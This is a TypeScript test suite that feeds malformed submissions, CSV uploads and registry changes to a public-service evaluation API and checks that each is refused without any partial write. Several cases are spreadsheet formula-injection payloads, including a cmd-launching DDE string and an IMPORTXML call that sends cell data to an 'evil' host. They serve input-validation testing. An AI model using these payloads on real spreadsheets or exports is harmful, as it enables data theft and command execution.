// The bad-input corpus: malformed JSON submissions and registry changes. Each is refused with an
// error naming the field (and body/form/row where there is one), and leaves every table exactly
// as it was (no partial write, no audit entry).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { backends, call, footprint, type Req, type World, world } from './harness.js';

const E = 'kz-2017-interaction';
const put = (form: string, data: unknown, submit = false, body = 'MOJ', edition = E): Req => ({
  method: 'PUT',
  url: `/api/campaigns/2/submissions/${body}/${edition}/${form}`,
  payload: { data, submit },
});
const row = (service: string, satisfaction: number | string = 4) => ({ service, satisfaction });
const sat = (rows: unknown, extra: Record<string, unknown> = {}) => ({ service_types: rows, reference_mean: 20, barrier_measures_taken: true, ...extra });
const bodyIn = (over: Record<string, unknown>) => ({ id: 'NEWBODY', name: { kk: 'Жаңа', ru: 'Новый', en: 'New' }, kind: 'local', level: 'district', region: 'AKM', ...over });
const svcIn = (over: Record<string, unknown>) => ({ code: '700001', name: { kk: 'Қызмет', ru: 'Услуга' }, automation: 'full', ...over });
const userIn = (over: Record<string, unknown>) => ({ login: 'newuser', displayName: 'New user', password: 'long-enough-password', role: 'commission', ...over });
const campIn = (over: Record<string, unknown>) => ({ code: 'bad-1', title: { kk: 'Науқан', ru: 'Кампания', en: 'Campaign' }, periodFrom: '2019-01-01', periodTo: '2019-12-31', editions: [E], bodies: ['MOJ'], ...over });

const csv = (text: string, field = 'service_types', form = 'D1.satisfaction'): Req => ({
  method: 'PUT',
  url: `/api/campaigns/2/submissions/MOJ/${E}/${form}/csv/${field}`,
  payload: text,
  headers: { 'content-type': 'text/csv' },
});

interface Case {
  name: string;
  as?: string;
  req: Req;
  /** The field the refusal must name (exact, or a pattern). */
  field: string | RegExp;
  status?: number;
  row?: number;
}

const CASES: Case[] = [
  // wrong types and ranges in a form
  { name: 'text for a count', req: put('App1', { unreliable_facts_d1: 'x' }), field: 'unreliable_facts_d1' },
  { name: 'negative count', req: put('App1', { unreliable_facts_d1: -1 }), field: 'unreliable_facts_d1' },
  { name: 'fraction for a count', req: put('App1', { unreliable_facts_d1: 1.5 }), field: 'unreliable_facts_d1' },
  { name: 'count with a unit', req: put('App1', { unreliable_facts_d1: '12 pcs' }), field: 'unreliable_facts_d1' },
  { name: 'boolean for a count', req: put('App1', { unreliable_facts_d1: true }), field: 'unreliable_facts_d1' },
  { name: 'array for a count', req: put('App1', { unreliable_facts_d1: [1] }), field: 'unreliable_facts_d1' },
  { name: 'object for a count', req: put('App1', { unreliable_facts_d1: { n: 1 } }), field: 'unreliable_facts_d1' },
  { name: 'exponent text for a count', req: put('App1', { unreliable_facts_d1: '1e3' }), field: 'unreliable_facts_d1' },
  { name: 'NaN text', req: put('App1', { unreliable_facts_d1: 'NaN' }), field: 'unreliable_facts_d1' },
  { name: 'Infinity text', req: put('App1', { unreliable_facts_d1: 'Infinity' }), field: 'unreliable_facts_d1' },
  { name: 'unknown field', req: put('App1', { unreliable_facts_d9: 1 }), field: 'unreliable_facts_d9' },
  { name: 'one good field and one bad: nothing stored', req: put('App1', { unreliable_facts_d1: 1, unreliable_facts_d2: 'two' }), field: 'unreliable_facts_d2' },
  { name: 'part larger than its total', req: put('D1.deadlines', { late_services: 50, services_rendered: 10, late_services_prev: 0, services_rendered_prev: 5 }), field: 'late_services' },
  { name: 'part of a part larger than it', req: put('D1.deadlines', { late_services: 5, late_during_is_failure: 6, services_rendered: 10, late_services_prev: 0, services_rendered_prev: 5 }), field: 'late_during_is_failure' },
  { name: 'submitting without a required field', req: put('D1.deadlines', { late_services: 1, late_services_prev: 0, services_rendered_prev: 5 }, true), field: 'services_rendered' },
  { name: 'list given as text', req: put('D1.satisfaction', sat('abc')), field: 'service_types' },
  { name: 'list rows that are not objects', req: put('D1.satisfaction', sat([1, 2])), field: 'service_types', row: 1 },
  { name: 'word for a number in a row', req: put('D1.satisfaction', sat([row('Справка', 'high')])), field: 'service_types.satisfaction', row: 1 },
  { name: 'duplicate rows', req: put('D1.satisfaction', sat([row('Справка'), row('Лицензия'), row('Справка')])), field: 'service_types', row: 3 },
  { name: 'the same service twice', req: put('D1.satisfaction', sat([row('Справка', 4), row('справка ', 3)])), field: 'service_types.service', row: 2 },
  { name: 'formula injection =', req: put('D1.satisfaction', sat([row('=HYPERLINK("http://evil.example","x")')])), field: 'service_types.service', row: 1 },
  { name: 'formula injection +', req: put('D1.satisfaction', sat([row("+cmd|' /C calc'!A0")])), field: 'service_types.service', row: 1 },
  { name: 'formula injection @', req: put('D1.satisfaction', sat([row('@SUM(1+1)*cmd')])), field: 'service_types.service', row: 1 },
  { name: 'formula injection -', req: put('D1.satisfaction', sat([row('-2+3+cmd|x')])), field: 'service_types.service', row: 1 },
  { name: 'formula injection tab', req: put('D1.satisfaction', sat([row('\t=1+1')])), field: 'service_types.service', row: 1 },
  { name: 'control characters in text', req: put('D1.satisfaction', sat([row('bell\u0007')])), field: 'service_types.service', row: 1 },
  { name: 'text of 5000 characters', req: put('D1.satisfaction', sat([row('я'.repeat(5000))])), field: 'service_types.service', row: 1 },
  { name: 'list of 5001 rows', req: put('D1.satisfaction', sat(Array.from({ length: 5001 }, (_, i) => row(`s${i}`)))), field: 'service_types' },
  { name: 'value above the declared maximum', req: put('D1.satisfaction', sat([row('Справка')], { reference_mean: 36 })), field: 'reference_mean' },
  { name: 'yes for a boolean', req: put('D1.satisfaction', sat([row('Справка')], { barrier_measures_taken: 'yes' })), field: 'barrier_measures_taken' },
  { name: 'value outside an enum', req: put('App12T1', { OD1_kz: 'maybe' }), field: 'OD1_kz' },
  { name: 'a form of another body kind', req: put('App12T2', { OD1_kz: 'present' }), field: /^(-|kind)$/ },
  // unknown codes
  { name: 'unknown form', req: put('App99', { a: 1 }), field: 'form' },
  { name: 'unknown edition', req: put('App1', { unreliable_facts_d1: 1 }, false, 'MOJ', 'kz-1999-nothing'), field: 'edition' },
  { name: 'unknown body code', as: 'admin', req: put('App1', { unreliable_facts_d1: 1 }, false, 'XYZ'), field: 'body' },
  { name: 'body outside the campaign', as: 'admin', req: put('App1', { unreliable_facts_d1: 1 }, false, 'MIA.POL.ALA'), field: 'body' },
  // malformed requests
  { name: 'data that is a list', req: put('App1', [1, 2]), field: 'body.data', status: 400 },
  { name: 'data missing', req: { method: 'PUT', url: `/api/campaigns/2/submissions/MOJ/${E}/App1`, payload: {} }, field: 'body.data', status: 400 },
  { name: 'unexpected top-level key', req: { method: 'PUT', url: `/api/campaigns/2/submissions/MOJ/${E}/App1`, payload: { data: {}, hack: 1 } }, field: 'body', status: 400 },
  { name: 'submit that is not a boolean', req: { method: 'PUT', url: `/api/campaigns/2/submissions/MOJ/${E}/App1`, payload: { data: {}, submit: 'yes' } }, field: 'body.submit', status: 400 },
  { name: 'broken JSON', req: { method: 'PUT', url: `/api/campaigns/2/submissions/MOJ/${E}/App1`, payload: '{"data": {', headers: { 'content-type': 'application/json' } }, field: 'body', status: 400 },
  { name: 'not JSON at all', req: { method: 'PUT', url: `/api/campaigns/2/submissions/MOJ/${E}/App1`, payload: 'data=1', headers: { 'content-type': 'text/plain' } }, field: 'body', status: 400 },
  { name: 'XML', req: { method: 'PUT', url: `/api/campaigns/2/submissions/MOJ/${E}/App1`, payload: '<data/>', headers: { 'content-type': 'application/xml' } }, field: 'body', status: 415 },
  { name: 'a 3 MB request', req: put('App1', { unreliable_facts_d1: 1, pad: 'x'.repeat(3 * 1024 * 1024) }), field: 'body', status: 413 },
  { name: 'campaign id that is not a number', req: { method: 'PUT', url: `/api/campaigns/abc/submissions/MOJ/${E}/App1`, payload: { data: {} } }, field: 'params.campaignId', status: 400 },
  { name: 'body code with spaces', req: { method: 'PUT', url: `/api/campaigns/2/submissions/M%20O%20J/${E}/App1`, payload: { data: {} } }, field: 'params.bodyId', status: 400 },
  { name: 'return without saying what to fix', as: 'evaluator', req: { method: 'POST', url: `/api/campaigns/1/submissions/MOJ/${E}/App1/return`, payload: { note: '' } }, field: 'body.note', status: 400 },
  // CSV tables
  { name: 'CSV with an unknown column', req: csv('service,satisfaction,bonus\nСправка,4,1\n'), field: 'service_types.bonus' },
  { name: 'CSV with a column twice', req: csv('service,service\nСправка,Лицензия\n'), field: 'service_types.service' },
  { name: 'CSV with an unbalanced quote', req: csv('service,satisfaction\n"Справка,4\n'), field: 'service_types' },
  { name: 'CSV with more values than columns', req: csv('service,satisfaction\nСправка,4,5\n'), field: 'service_types', row: 1 },
  { name: 'CSV word for a number', req: csv('service;satisfaction\nСправка;хорошо\n'), field: 'service_types.satisfaction', row: 1 },
  { name: 'CSV formula injection', req: csv('service,satisfaction\n"=IMPORTXML(CONCAT(""http://evil/?"",A1),""//a"")",4\n'), field: 'service_types.service', row: 1 },
  { name: 'CSV duplicate rows', req: csv('service,satisfaction\nСправка,4\nСправка,4\n'), field: 'service_types', row: 2 },
  { name: 'CSV of 5001 rows', req: csv('service,satisfaction\n' + Array.from({ length: 5001 }, (_, i) => `s${i},4`).join('\n')), field: 'service_types' },
  { name: 'CSV for a field that is not a table', req: csv('a\n1\n', 'reference_mean'), field: 'field' },
  { name: 'CSV that is empty', req: csv(''), field: 'service_types' },
  { name: 'CSV sent as JSON', req: { method: 'PUT', url: `/api/campaigns/2/submissions/MOJ/${E}/D1.satisfaction/csv/service_types`, payload: { rows: [] } }, field: 'file' },
  // registries
  { name: 'body without a Kazakh name', as: 'admin', req: { method: 'POST', url: '/api/bodies', payload: bodyIn({ name: { ru: 'Новый', en: 'New' } }) }, field: 'body.name.kk', status: 400 },
  { name: 'body of an unknown level', as: 'admin', req: { method: 'POST', url: '/api/bodies', payload: bodyIn({ level: 'galaxy' }) }, field: 'body.level', status: 400 },
  { name: 'body code that exists', as: 'admin', req: { method: 'POST', url: '/api/bodies', payload: bodyIn({ id: 'MIA' }) }, field: 'id' },
  { name: 'body under an unknown parent', as: 'admin', req: { method: 'POST', url: '/api/bodies', payload: bodyIn({ parentId: 'NOPE', vertical: 'territorial' }) }, field: 'parentId' },
  { name: 'territorial unit without its parent', as: 'admin', req: { method: 'POST', url: '/api/bodies', payload: bodyIn({ vertical: 'territorial' }) }, field: 'parentId' },
  { name: 'body name that is a formula', as: 'admin', req: { method: 'POST', url: '/api/bodies', payload: bodyIn({ name: { kk: 'Жаңа', ru: '=cmd|x', en: 'New' } }) }, field: 'body.name.ru', status: 400 },
  { name: 'liquidation on 30 February', as: 'admin', req: { method: 'PATCH', url: '/api/bodies/MIA', payload: { liquidatedOn: '2019-02-30' } }, field: 'body.liquidatedOn', status: 400 },
  { name: 'reorganised into itself', as: 'admin', req: { method: 'PATCH', url: '/api/bodies/MIA', payload: { reorganisedOn: '2019-01-01', reorganisedInto: 'MIA' } }, field: 'reorganisedInto' },
  { name: 'unknown body attribute', as: 'admin', req: { method: 'PATCH', url: '/api/bodies/MIA', payload: { colour: 'red' } }, field: 'body', status: 400 },
  { name: 'service provided by an unknown body', as: 'admin', req: { method: 'POST', url: '/api/services', payload: svcIn({ providers: ['MIA', 'NOPE'] }) }, field: 'providers.1' },
  { name: 'service code that is not a register code', as: 'admin', req: { method: 'POST', url: '/api/services', payload: svcIn({ code: 'abc' }) }, field: 'body.code', status: 400 },
  { name: 'service code that exists', as: 'admin', req: { method: 'POST', url: '/api/services', payload: svcIn({ code: '900001' }) }, field: 'code' },
  { name: 'unknown automation status', as: 'admin', req: { method: 'POST', url: '/api/services', payload: svcIn({ automation: 'mostly' }) }, field: 'body.automation', status: 400 },
  { name: 'a channel twice', as: 'admin', req: { method: 'POST', url: '/api/services', payload: svcIn({ channels: ['egov', 'egov'] }) }, field: 'channels' },
  { name: 'unknown role', as: 'admin', req: { method: 'POST', url: '/api/users', payload: userIn({ role: 'god' }) }, field: 'body.role', status: 400 },
  { name: 'short password', as: 'admin', req: { method: 'POST', url: '/api/users', payload: userIn({ password: 'short' }) }, field: 'body.password', status: 400 },
  { name: 'body officer without a body', as: 'admin', req: { method: 'POST', url: '/api/users', payload: userIn({ role: 'body_officer' }) }, field: 'bodies' },
  { name: 'body officer of an unknown body', as: 'admin', req: { method: 'POST', url: '/api/users', payload: userIn({ role: 'body_officer', bodies: ['NOPE'] }) }, field: 'bodies.0' },
  { name: 'campaign ending before it starts', as: 'admin', req: { method: 'POST', url: '/api/campaigns', payload: campIn({ periodFrom: '2020-01-01' }) }, field: 'periodTo' },
  { name: 'campaign with an unknown edition', as: 'admin', req: { method: 'POST', url: '/api/campaigns', payload: campIn({ editions: ['kz-1999-nothing'] }) }, field: 'editions.0' },
  { name: 'campaign with an unknown body', as: 'admin', req: { method: 'POST', url: '/api/campaigns', payload: campIn({ bodies: ['MOJ', 'NOPE'] }) }, field: 'bodies.1' },
  { name: 'campaign with a body twice', as: 'admin', req: { method: 'POST', url: '/api/campaigns', payload: campIn({ bodies: ['MOJ', 'MOJ'] }) }, field: 'bodies' },
  { name: 'campaign code that exists', as: 'admin', req: { method: 'POST', url: '/api/campaigns', payload: campIn({ code: 'demo-2018' }) }, field: 'code' },
  { name: 'schedule of an unknown form', as: 'admin', req: { method: 'POST', url: '/api/campaigns', payload: campIn({ schedule: [{ edition: E, form: 'App99', submitter: 'body', assessingBody: 'ACSA', due: '2020-01-20' }] }) }, field: 'schedule.0.form' },
  { name: 'reading with an unknown option', as: 'admin', req: { method: 'POST', url: '/api/campaigns', payload: campIn({ readings: { D4: 'median-of-vibes' } }) }, field: 'readings.D4' },
  { name: 'compute with an unknown option', as: 'admin', req: { method: 'POST', url: '/api/campaigns/1/compute', payload: { everything: true } }, field: 'body', status: 400 },
];

describe.each(backends)('bad-input corpus on $name', (b) => {
  let w: World;
  beforeAll(async () => {
    w = await world(b);
  }, 120_000);
  afterAll(async () => w?.close());

  it(`holds at least 40 cases (${CASES.length})`, () => expect(CASES.length).toBeGreaterThanOrEqual(40));

  it.each(CASES)('$name', async (c) => {
    const before = await footprint(w);
    const r = await call(w, c.as ?? 'officer', c.req);
    expect(r.statusCode, r.body.slice(0, 400)).toBe(c.status ?? 422);
    const err = r.json().error;
    expect(err.messages).toHaveProperty('kk');
    expect(err.issues.length, r.body.slice(0, 400)).toBeGreaterThan(0);
    const fields = err.issues.map((i: { field: string }) => i.field);
    const hit = err.issues.find((i: { field: string }) => (typeof c.field === 'string' ? i.field === c.field : c.field.test(i.field)));
    expect(hit, `fields named: ${fields.join(', ')}`).toBeDefined();
    for (const k of ['body', 'form', 'field', 'value', 'message']) expect(hit).toHaveProperty(k);
    if (c.row !== undefined) expect(hit.row).toBe(c.row);
    expect(await footprint(w)).toEqual(before);
  });
});
